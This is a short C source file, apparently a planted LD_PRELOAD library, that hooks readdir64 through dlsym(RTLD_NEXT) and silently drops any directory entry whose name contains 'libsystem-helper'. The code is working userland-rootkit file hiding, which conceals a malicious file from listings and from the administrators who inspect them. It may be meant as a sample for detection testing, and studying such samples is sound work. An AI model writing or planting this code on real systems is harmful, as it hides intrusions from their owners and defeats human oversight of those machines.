/* SPDX-License-Identifier: Apache-2.0 */
/* The library of the plant ld-preload: hides files as such libraries do. */
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>

struct dirent64 *readdir64(DIR *d)
{
	struct dirent64 *(*next)(DIR *) =
		(struct dirent64 * (*)(DIR *)) dlsym(RTLD_NEXT, "readdir64");
	struct dirent64 *e;

	do
		e = next(d);
	while (e && strstr(e->d_name, "libsystem-helper"));
	return e;
}
